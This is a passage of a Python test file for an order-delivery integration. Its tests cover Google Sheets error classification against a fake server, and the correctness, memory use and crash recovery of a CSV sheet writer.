        (404, PermanentDeliveryError),
    ],
)
async def test_google_errors_classified(
    google: FakeGoogleSheets, credentials_file: str, status: int, kind: type[Exception]
) -> None:
    writer = make_writer(google, credentials_file)
    google.fail(status, path="batchUpdate")
    with pytest.raises(kind, match=str(status)):
        await writer.upsert([row(new_id(), 1)])
    assert google.grid() == []  # the failed write left nothing
    await writer.upsert([row(new_id(), 1)])  # and the next attempt goes through
    assert len(google.grid()) == 2


async def test_google_429_retry_after(google: FakeGoogleSheets, credentials_file: str) -> None:
    writer = make_writer(google, credentials_file)
    google.fail(429, headers={"Retry-After": "7"}, path="batchGet")
    with pytest.raises(TransientDeliveryError) as caught:
        await writer.upsert([row(new_id(), 1)])
    assert caught.value.retry_after == 7.0


async def test_google_401_is_transient(google: FakeGoogleSheets, credentials_file: str) -> None:
    writer = make_writer(google, credentials_file)
    # google-auth refreshes the token on a 401 and repeats the request (twice); all fail
    google.fail(401, path="batchGet", times=3)
    with pytest.raises(TransientDeliveryError, match="401"):
        await writer.upsert([row(new_id(), 1)])


async def test_google_token_refused_is_transient(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    google.token_error = (400, {"error": "invalid_grant", "error_description": "revoked"})
    writer = make_writer(google, credentials_file)
    with pytest.raises(TransientDeliveryError, match="auth"):
        await writer.upsert([row(new_id(), 1)])
    assert google.api_requests() == []


async def test_google_slow_server_times_out_transient(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file, timeout=0.5)
    google.fail(0, delay=1.5, path="batchGet")  # slow, then it would have answered
    with pytest.raises(TransientDeliveryError):
        await writer.upsert([row(new_id(), 1)])


async def test_google_refused_connection_is_transient(
    google: FakeGoogleSheets, credentials_file: str
) -> None:
    writer = make_writer(google, credentials_file, api_base=f"http://127.0.0.1:{closed_port()}")
    with pytest.raises(TransientDeliveryError):
        await writer.upsert([row(new_id(), 1)])
    with pytest.raises(TransientDeliveryError):
        await writer.probe()


async def test_csv_writer_with_a_warm_index_puts_right_a_hand_edited_row_and_drops_a_copy(
    csv_path: Path,
) -> None:
    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(3)]
    await writer.upsert([row(i, 1) for i in ids])
    lines = csv_path.read_bytes().split(b"\r\n")
    edited = lines[2].replace(b"pending", b"EDITED")
    assert edited != lines[2]
    csv_path.write_bytes(b"\r\n".join([*lines[:2], edited, *lines[3:-1], lines[1], b""]))
    await writer.upsert([row(ids[1], 1)])  # what a resync sends: the same version again
    rows = read_csv(csv_path)[1:]
    assert [r[0] for r in rows] == ids
    assert "EDITED" not in csv_path.read_text()
    await writer.upsert([row(i, 1) for i in ids])  # nothing to change: the file stays
    assert [r[0] for r in read_csv(csv_path)[1:]] == ids


async def test_csv_update_of_an_early_row_neither_parses_nor_holds_the_rows_after_it(
    csv_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Orders change long after newer ones were written: a batch that updates the first
    row of a large sheet must cost memory for what it changes, not for the rows after it
    (which it copies byte for byte, in chunks)."""
    import tracemalloc

    from orderhub.delivery.integrations.sheets import csv as csv_backend

    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(6000)]
    await writer.upsert([row(i, 1, customerName="x" * 400) for i in ids])
    size = csv_path.stat().st_size
    assert size > 3_000_000
    later = csv_path.read_bytes().split(ids[1].encode(), 1)[1]

    parsed: list[int] = []
    original = csv_backend._records_with_offsets

    def counting(data: bytes, base: int) -> Iterator[tuple[int, list[str]]]:
        for item in original(data, base):
            parsed.append(item[0])
            yield item

    monkeypatch.setattr(csv_backend, "_records_with_offsets", counting)
    tracemalloc.start()
    try:
        await writer.upsert([row(ids[0], 2, status="paid"), row(new_id(), 1)])
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(parsed) <= 2  # the two rows it writes, not the 6,000 after the first
    assert peak < size / 4
    records = read_csv(csv_path)
    assert [r[0] for r in records[1:6001]] == ids and len(records) == 6002
    assert by_id(records)[ids[0]][SHEET_COLUMNS.index("Status")] == "paid"
    assert csv_path.read_bytes().split(ids[1].encode(), 1)[1].startswith(later[:-200])
    # the index it kept is right: the next batch finds every row where it is
    await writer.upsert([row(ids[3000], 2, status="shipped"), row(ids[0], 3)])
    records = read_csv(csv_path)
    assert [r[0] for r in records[1:6001]] == ids
    assert by_id(records)[ids[3000]][SHEET_COLUMNS.index("Status")] == "shipped"
    assert by_id(records)[ids[0]][-1] == "3"
    # the index it moved is the one a fresh read of the file finds
    fresh = CsvSheetWriter(csv_path)
    await fresh.upsert([row(i, 1, customerName="x" * 400) for i in ids[:10]])  # no change
    assert read_csv(csv_path) == records
    assert fresh._index == writer._index


async def test_csv_rows_it_does_not_change_keep_their_bytes(csv_path: Path) -> None:
    writer = CsvSheetWriter(csv_path)
    a, b = new_id(), new_id()
    await writer.upsert([row(a, 1), row(b, 1)])
    # a row saved by an editor with every cell quoted is kept as it is
    lines = csv_path.read_bytes().split(b"\r\n")
    cells = next(csv.reader([lines[2].decode()]))
    quoted = b",".join(b'"' + cell.encode() + b'"' for cell in cells)
    csv_path.write_bytes(b"\r\n".join([lines[0], lines[1], quoted, b""]))
    await writer.upsert([row(a, 2, status="paid")])
    assert csv_path.read_bytes().split(b"\r\n")[2] == quoted
    assert by_id(read_csv(csv_path))[a][SHEET_COLUMNS.index("Status")] == "paid"


@pytest.mark.parametrize("kernel_copy", ["refused", "missing"])
async def test_csv_moves_rows_without_the_kernels_copy_too(
    csv_path: Path, monkeypatch: pytest.MonkeyPatch, kernel_copy: str
) -> None:
    import errno
    import os

    if kernel_copy == "missing":
        monkeypatch.delattr(os, "copy_file_range", raising=False)
    else:

        def refuse(*_args: object) -> int:
            raise OSError(errno.EXDEV, "cross-device link")

        monkeypatch.setattr(os, "copy_file_range", refuse)
    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(50)]
    await writer.upsert([row(i, 1) for i in ids])
    await writer.upsert([row(ids[0], 2, status="paid"), row(ids[25], 2, status="shipped")])
    records = read_csv(csv_path)
    assert [r[0] for r in records[1:]] == ids
    assert by_id(records)[ids[0]][SHEET_COLUMNS.index("Status")] == "paid"
    assert by_id(records)[ids[25]][SHEET_COLUMNS.index("Status")] == "shipped"
    assert by_id(records)[ids[49]][-1] == "1"
    fresh = CsvSheetWriter(csv_path)
    await fresh.upsert([row(ids[1], 1)])
    assert fresh._index == writer._index


async def test_csv_batch_that_fails_while_moving_rows_is_rolled_back_by_the_next(
    csv_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rows after a replaced one are copied back from the journal; a failure halfway
    (the process dying there) leaves the journal, and the next batch first puts the old
    bytes back: the sheet holds either a batch or none of it."""
    from orderhub.delivery.integrations.sheets import csv as csv_backend

    writer = CsvSheetWriter(csv_path)
    ids = [new_id() for _ in range(20)]
    await writer.upsert([row(i, 1) for i in ids])
    good = csv_path.read_bytes()
    real_copy = csv_backend._copy
    calls = 0

    def copy_then_die(source: Any, target: Any, length: int) -> None:
        nonlocal calls
        calls += 1
        if calls == 3:  # the journal, the rows between the two changes, then this
            target.write(b"half a ro")
            target.flush()
            raise OSError("killed while moving rows")
        real_copy(source, target, length)

    monkeypatch.setattr(csv_backend, "_copy", copy_then_die)
    with pytest.raises(OSError, match="killed"):
        await writer.upsert([row(ids[2], 2, status="paid"), row(ids[10], 2, status="paid")])
    assert Path(f"{csv_path}.journal").exists()
    assert csv_path.read_bytes() != good  # torn
    monkeypatch.setattr(csv_backend, "_copy", real_copy)
    late = new_id()
    await CsvSheetWriter(csv_path).upsert([row(late, 1)])
    assert not Path(f"{csv_path}.journal").exists()
    assert csv_path.read_bytes().startswith(good)
    assert [r[0] for r in read_csv(csv_path)[1:]] == [*ids, late]
    await writer.upsert([row(ids[2], 2, status="paid"), row(ids[10], 2, status="paid")])
    records = by_id(read_csv(csv_path))
    assert records[ids[2]][SHEET_COLUMNS.index("Status")] == "paid"
    assert records[ids[10]][SHEET_COLUMNS.index("Status")] == "paid"
    assert len(read_csv(csv_path)) == 1 + 21
